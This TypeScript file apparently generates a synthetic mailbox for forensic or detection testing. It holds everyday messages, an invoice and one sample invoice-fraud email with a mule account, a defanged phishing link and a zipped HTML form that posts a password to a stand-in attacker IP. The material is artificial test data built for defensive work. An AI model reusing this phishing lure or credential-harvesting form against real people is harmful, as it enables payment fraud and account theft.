import { zip } from "./containers.ts";
import { pdf } from "./documents.ts";
import { dice } from "./random.ts";
import { attacker, ibans, mule, people, START } from "./world.ts";

interface Attachment {
  name: string;
  type: string;
  content: Uint8Array;
}

const date = (ms: number): string => new Date(ms).toUTCString().replace("GMT", "+0000");
const envelopeDate = (ms: number): string => {
  const [day, dayOfMonth, month, year, time] = new Date(ms).toUTCString().replace(",", "").split(" ");
  return `${day} ${month} ${dayOfMonth} ${time} ${year}`;
};

const mail = (
  from: string,
  to: string,
  subject: string,
  ms: number,
  text: string,
  id: number,
  attachment?: Attachment,
): string => {
  const head = [
    `From ${/<(.+)>/.exec(from)?.[1] ?? from} ${envelopeDate(ms)}`,
    `From: ${from}`,
    `To: ${to}`,
    `Subject: ${subject}`,
    `Date: ${date(ms)}`,
    `Message-ID: <${id}.sample@mail.example.org>`,
    ...(id > 1 && id % 3 === 0 ? [`In-Reply-To: <${id - 1}.sample@mail.example.org>`] : []),
    "MIME-Version: 1.0",
  ];
  if (!attachment) return [...head, "Content-Type: text/plain; charset=utf-8", "", text, ""].join("\n");
  return [
    ...head,
    `Content-Type: multipart/mixed; boundary="sample-${id}"`,
    "",
    `--sample-${id}`,
    "Content-Type: text/plain; charset=utf-8",
    "",
    text,
    `--sample-${id}`,
    `Content-Type: ${attachment.type}; name="${attachment.name}"`,
    "Content-Transfer-Encoding: base64",
    `Content-Disposition: attachment; filename="${attachment.name}"`,
    "",
    Buffer.from(attachment.content).toString("base64").replace(/.{76}/g, "$&\n"),
    `--sample-${id}--`,
    "",
  ].join("\n");
};

const address = ({ name, mail }: { name: string; mail: string }): string => `${name} <${mail}>`;

/** Three weeks of a mailbox: everyday mail, an invoice, and one attempt at invoice fraud. */
export const mailbox = async (): Promise<Buffer> => {
  const random = dice(31);
  const [alice, bernard, carla] = people;
  const messages: string[] = [];
  let at = START;
  const add = (from: string, to: string, subject: string, text: string, attachment?: Attachment): void => {
    at += random.int(3_600_000, 20 * 3_600_000);
    messages.push(mail(from, to, subject, at, text, messages.length + 1, attachment));
  };
  const everyday = [
    "Can we move our meeting to Thursday 10:30 in Berlin?\n\nFrom here on I am on the train.",
    "The build is green again, see https://ci.example.org/runs/1842.",
    `Call me on ${bernard.phone} when you are free.`,
    "Lunch? The usual place, 12:15.",
  ];
  for (let i = 0; i < 9; i++)
    add(address(random.pick(people)), address(random.pick(people)), `Re: week ${i + 5}`, random.pick(everyday));
  add(
    address(carla),
    address(alice),
    "Invoice 2026-017",
    `Please find the invoice attached. Our account is ${ibans[0]}.\n\nBest,\nCarla`,
    {
      name: "invoice-2026-017.pdf",
      type: "application/pdf",
      content: pdf("Invoice 2026-017", [["Invoice 2026-017", "Total: EUR 4,920.00", `IBAN ${ibans[0]}`]]),
    },
  );
  add(
    `"Carla Jensen" <${attacker.mail}>`,
    address(alice),
    "URGENT: our bank details have changed",
    `Dear Alice,\n\nplease pay invoice 2026-017 to our new account ${mule} today, and confirm your password at\nhxxps://login-portal[.]example[.]net/confirm?id=2026-017 or http://${attacker.ip}/confirm.\n\nCarla`,
    {
      name: "new-bank-details.zip",
      type: "application/zip",
      content: await zip({
        "bank-details.html": `<!doctype html><title>Confirm</title><form action="http://${attacker.ip}/collect"><input type="password" name="p"></form>\n`,
      }),
    },
  );
  add(
    address(bernard),
    address(alice),
    "Fwd: URGENT: our bank details have changed",
    `Do not pay. ${attacker.ip} is the address from the bastion log.`,
  );
  add(address(alice), address(bernard), "People of the project", "As promised, the list.", {
    name: "people.csv",
    type: "text/csv",
    content: Buffer.from(["name,mail,phone", ...people.map((p) => `${p.name},${p.mail},${p.phone}`), ""].join("\n")),
  });
  return Buffer.from(messages.join("\n"));
};
